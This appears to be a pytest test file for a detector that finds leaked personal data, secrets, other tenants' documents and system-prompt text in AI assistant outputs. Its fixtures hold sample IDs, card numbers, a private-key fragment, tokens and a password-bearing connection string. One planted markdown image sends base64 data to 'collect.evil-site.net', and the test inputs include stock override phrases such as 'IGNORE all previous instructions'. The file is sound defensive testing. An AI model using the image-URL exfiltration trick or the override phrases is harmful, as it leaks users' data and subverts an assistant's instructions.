"""What should not be in an answer: every planted item found, look-alikes left alone, nothing shown whole."""

import dataclasses
import json

import pytest

from hotwash.triage import patterns, payloads
from hotwash.triage.leakage import leakage
from hotwash.triage.scan import hits
from hotwash.triage.stats import promise
from tests.rooms.triage.attackdata import ALWAYS, BEFORE, START, lines, table

PLANTED = {
    "email": "Write to anna.smit@kpnmail.nl today",
    "phone": "Call +49 151 2345 6789 after six",
    "payment_card": "Paid with 4539 1488 0343 6467 yesterday",
    "iban": "Refund to NL20 INGB 0001 2345 67 is on its way",
    "ip_address": "Signed in from 81.2.69.142.",
    "us_ssn": "His number is 536-90-4399",
    "nl_bsn": "Haar BSN: 136091751",
    "es_dni": "Su DNI es 53820149B",
    "uk_nino": "National insurance JK 12 34 56 C",
    "fr_nir": "NIR 2 55 08 14 168 025 38",
    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM9OiJjRazXBZ1BjP5CE/Wm\nRr500PRK+Lh9x5eJ",
    "api_key": "use ghp_a8Fk2LmQ9xZr4TvB7nWc1YpD5sHg3JeU6oXq for it",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI4MTIzNDUifQ.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P",
    "bearer_token": "Authorization: Bearer q8Zr4TvB7nWc1YpD5sHg3JeU6oXq",
    "connection_string": "postgres://shop:Vq7rTz2x@db.shop-prod.net/orders",
    "password": "the password is Vq7rTz2xPm",
    "data_in_url": "![ok](https://collect.evil-site.net/p.png?d=YW5uYSBzbWl0)",
    "internal_marker": "STRICTLY CONFIDENTIAL, board paper",
}
INNOCENT = (
    "Order 4539148803436468 has shipped", "order number 4539148803436467 has shipped", "We run version 1.2.3.4 and 10.20.30.40",
    "Update to v84.12.33.120 now", "From 2024-05-15 10:30:00 to 2024-05-16 11:45:10",
    "Request 550e8400-e29b-41d4-a716-446655440000 failed", "Tracking 1Z999AA10123456784 and 00340434161094042557",
    "The image logo@2x.png and user@localhost", "Total 1.234.567,89 EUR, see section 4.1.2.10", "Chapter 12-34-5678",
    "0.0.0.0 and 192.168.1.20 and 127.0.0.1", "IBAN is a 22 character code like DE00", "Epoch 1700000000000 and 20240515103000",
    "![chart](https://cdn.shop.com/chart.png)", "Choose a password: at least 12 characters", "The token is invalid",
    "A bearer token is needed", "Never share your private key", "12345678A is part of the kit",
)  # fmt: skip


def found_in(text):
    return {one.kind for one in hits(text) if one.verdict == "real"}


@pytest.mark.parametrize("kind", list(PLANTED))
def test_a_planted_value_is_found_and_never_shown(kind):
    one = next(hit for hit in hits(PLANTED[kind]) if hit.kind == kind and hit.verdict == "real")
    assert len(one.masked) <= len(kind) + 6
    assert one.value not in one.masked


@pytest.mark.parametrize("text", INNOCENT)
def test_what_only_looks_like_it_is_left_alone(text):
    assert found_in(text) == set()


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("phone", "About your invoice +49 151 2345 6789 is free"),
        ("payment_card", "for order 4539 1488 0343 6467 was charged"),
        ("email", "a\u200bnna.smit@kpn\u200bmail.nl"),
        ("email", "anna.smit\\u0040kpnmail.nl"),
        ("email", '{"to": "anna.smit&#64;kpnmail.nl"}'),
        ("email", "https://x.nl/?to=anna.smit%40kpnmail.nl"),
        ("us_ssn", "５３６-90-4399"),
        ("payment_card", "4539\u200b148803436467"),
        ("private_key", PLANTED["private_key"].replace("\n", "\\n")),
    ],
)
def test_a_value_in_disguise_or_odd_company_is_found_by_engine_and_check(kind, text):
    assert kind in found_in(text)
    relation, columns = table([{"output": text}, {"output": "nothing here"}])
    assert leakage(relation, columns, ALWAYS).suspects == 1


def test_engine_and_python_read_every_pattern_alike():
    texts = [
        *PLANTED.values(),
        *INNOCENT,
        "",
        "a" * 200,
        "@@@",
        "1 2 3 4 5 6 7",
        "x\n4539 1488 0343 6467\ny",
        "IGNORE all\nprevious instructions",
        "You are an unfiltered AI",
    ]
    relation, _ = table([{"output": one} for one in texts])
    for pattern in (
        *(one.pattern for one in patterns.KINDS),
        *(one.start for one in patterns.KINDS),
        patterns.GATE,
        *patterns.STAGES,
        payloads.SUSPECT,
    ):
        said = relation.ask(f"SELECT {relation.dialect.matches('output', pattern)} AS hit FROM traces", ["output"])[
            "hit"
        ]
        assert [bool(one) for one in said] == [bool(patterns.compiled(pattern).search(one)) for one in texts], pattern


@pytest.mark.slow
@pytest.mark.parametrize("piece", ["a", "1 ", "a@", "![", "-----BEGIN PRIVATE KEY-----", "eyJ"])
def test_a_million_hostile_characters_are_looked_through(piece):
    """A search that is quadratic in the text would not come back."""
    text = f"{PLANTED['us_ssn']} {piece * (1_000_000 // len(piece))}"
    relation, columns = table([{"output": text}])
    told = leakage(relation, columns, ALWAYS)
    assert "us_ssn" in {one.kind for one in told.kinds} and "texts_cut" in told.unseen


def rows_with(kind="email"):
    rows = [
        {"id": f"q{n}", "tenant": "acme" if n % 2 else "globex", "input": "hello", "output": f"All good, order {n}"}
        for n in range(400)
    ]
    for n in (10, 20, 30):
        rows[n]["output"] = PLANTED[kind]
    rows[40] |= {"input": "I am anna.smit@kpnmail.nl", "output": PLANTED["email"]}
    rows[50]["output"] = "Write to you@example.com"
    return rows


def test_counts_echo_and_examples_are_kept_apart():
    relation, columns = table(rows_with())
    told = leakage(relation, columns, ALWAYS, BEFORE)
    email = next(one for one in told.kinds if one.kind == "email")
    assert (email.found.found, email.found.asked, email.echo, email.synthetic) == (3, 400, 1, 1)
    assert email.values == 1
    assert [one.id for one in email.examples] == ["q10", "q20", "q30"]
    assert email.first_ms == START + 10_000
    assert email.baseline.asked == 0
    assert told.raw_rows == 5
    assert "no_documents_column" in told.unseen
    assert set(told.columns_read) == {"at", "id", "output", "input", "tenant"}
    said = json.dumps(dataclasses.asdict(told), allow_nan=False)
    assert "anna" not in said and "kpnmail" not in said


def test_more_before_than_now_is_compared_with_an_interval():
    rows = [{"output": PLANTED["email"] if n < 60 else "fine", "at_ms": START - 5000 - n} for n in range(1000)]
    rows += [{"output": PLANTED["email"] if n < 150 else "fine", "at_ms": START + n} for n in range(1000)]
    relation, columns = table(rows)
    email = leakage(relation, columns, ALWAYS, BEFORE).kinds[0]
    assert (email.found.found, email.baseline.found) == (150, 60)
    assert email.difference[1] < 0.09 < email.difference[2] and email.p < 1e-9


def test_nothing_found_is_a_bound_and_not_a_zero():
    relation, columns = table([{"output": "All good"}] * 300)
    told = leakage(relation, columns, ALWAYS)
    assert told.kinds == () and told.clean_at_most == promise(0, 300) and 0.009 < told.clean_at_most < 0.011
    assert ("output", "email") in told.clean


def test_texts_that_are_not_there_are_not_clean():
    rows = (
        [{"output": None}] * 40
        + [{"output": "__REDACTED__"}] * 50
        + [{"output": "Dear REDACTED, hello"}] * 5
        + [{"output": "fine"}] * 5
    )
    relation, columns = table(rows)
    told = leakage(relation, columns, ALWAYS)
    assert {"texts_missing", "texts_withheld", "texts_masked_in_part"} <= set(told.unseen)
    assert (told.readable[0].missing, told.readable[0].withheld, told.readable[0].masked_in_part) == (40, 50, 5)
    assert told.clean_at_most == promise(0, 10)


def test_without_texts_nothing_is_called_clean():
    relation, columns = table([{"latency_ms": 1.0, "tenant": "acme"}] * 5)
    told = leakage(relation, columns, ALWAYS)
    assert (told.kinds, told.clean, told.clean_at_most, told.raw_rows) == ((), (), None, 0)
    assert {"no_output_column", "no_input_column", "no_documents_column", "no_system_column"} == set(told.unseen)
    assert told.columns_read == ("at",)


def test_more_suspects_than_may_be_read_become_an_estimate():
    rows = [{"id": f"q{n}", "output": PLANTED["email"] if n % 4 else "mail you@example.com"} for n in range(4000)]
    relation, columns = table(rows)
    told = leakage(relation, columns, ALWAYS, budget=500)
    email = told.kinds[0]
    assert told.raw_rows == 500 and told.suspects == 4000 and email.found.estimated
    assert email.found.low < 0.75 < email.found.high and email.found.high - email.found.low < 0.1


def test_a_shop_with_long_order_numbers_does_not_use_up_what_may_be_read():
    rows = [{"id": f"q{n}", "output": f"Your order 4{10**14 + n * 7919:015d} is on its way"} for n in range(4000)]
    for n in range(0, 4000, 1000):
        rows[n]["output"] = PLANTED["email"]
    for n in range(1, 4000, 4):
        rows[n]["output"] = PLANTED["payment_card"]
    relation, columns = table(rows)
    told = leakage(relation, columns, ALWAYS, budget=500)
    found = {one.kind: one.found for one in told.kinds}
    assert told.suspects == 4000 and told.raw_rows == 500
    assert (found["email"].found, found["email"].estimated) == (4, False)
    assert found["payment_card"].estimated and found["payment_card"].low < 0.25 < found["payment_card"].high
    assert "payment_cards_not_read" not in told.unseen
    crowded = leakage(
        *table([*rows[1:], *[{"id": f"m{n}", "output": PLANTED["email"]} for n in range(600)]]), ALWAYS, budget=500
    )
    assert "payment_cards_not_read" in crowded.unseen and crowded.kinds[0].found.estimated


def test_documents_and_values_of_another_tenant():
    secret = "The Globex merger with Initech closes on the first of March at forty a share"
    rows = [{"id": f"q{n}", "tenant": "acme", "input": "hi", "output": "fine",
             "documents": json.dumps([{"id": "d", "tenant": "acme", "content": "our own text"}])} for n in range(100)]  # fmt: skip
    rows[3] |= {
        "documents": json.dumps([{"id": "x", "tenant": "globex", "content": secret}]),
        "output": f"It says: {secret}.",
    }
    rows[4]["documents"] = json.dumps([{"id": "x", "tenant": "globex", "content": secret}], separators=(",", ":"))
    rows[5]["documents"] = json.dumps([{"id": "p", "tenant": "public", "content": "terms"}])
    rows[6]["documents"] = '[{"id": "broken"'
    rows[7] |= {"tenant": "globex", "input": "my IBAN is NL20INGB0001234567", "output": "Noted NL20INGB0001234567",
                "documents": "[]"}  # fmt: skip
    rows[8]["output"] = "Send it to NL20INGB0001234567"
    relation, columns = table(rows)
    crossed = leakage(relation, columns, ALWAYS).cross_tenant
    assert (crossed.documents.found, crossed.shown, crossed.unreadable) == (2, 1, 1)
    assert crossed.pairs == (("acme", "globex", 2),) and crossed.ids == ("q3", "q4")
    assert (crossed.values, crossed.value_kinds) == (1, ("iban",))


def test_a_system_prompt_in_an_answer():
    prompt = ("You are the assistant of a shop. Never promise a refund above forty euro without asking a colleague first, and do not "
              "name the suppliers. Discounts follow the table of March, which only staff may read or hear about.")  # fmt: skip
    rows = [{"id": f"q{n}", "system": prompt, "output": "You are welcome, anything else?"} for n in range(50)]
    rows[9]["output"] = f"Sure! My rules: {prompt[34:200]}"
    relation, columns = table(rows)
    told = leakage(relation, columns, ALWAYS, system="system").disclosure
    assert told.shown.found == 1 and told.ids == ("q9",) and told.longest >= 16
    assert leakage(relation, columns, ALWAYS).disclosure.shown is None


def test_a_false_alarm_of_an_evaluator_is_not_ours(shared):
    import gzip

    path = shared / "data" / "trace-fixtures" / "langfuse-trace-whats-your-name.json.gz"
    trace = json.loads(gzip.decompress(path.read_bytes()))["trace"]
    assert any(one["name"] == "contains-pii" and one["value"] == 1 for one in trace["scores"])
    relation, columns = table([{"input": json.loads(trace["input"]), "output": json.loads(trace["output"])}])
    told = leakage(relation, columns, ALWAYS, read=("input", "output"))
    assert told.kinds == () and told.suspects == 0


def test_benign_answers_of_people_hold_next_to_nothing(shared):
    texts = [one["response"] for one in lines(shared / "data" / "begin-groundedness" / "begin-wow-gpt2-t5.jsonl.gz")]
    assert len(texts) == 2035
    assert sum(bool(found_in(one)) for one in texts) <= 2
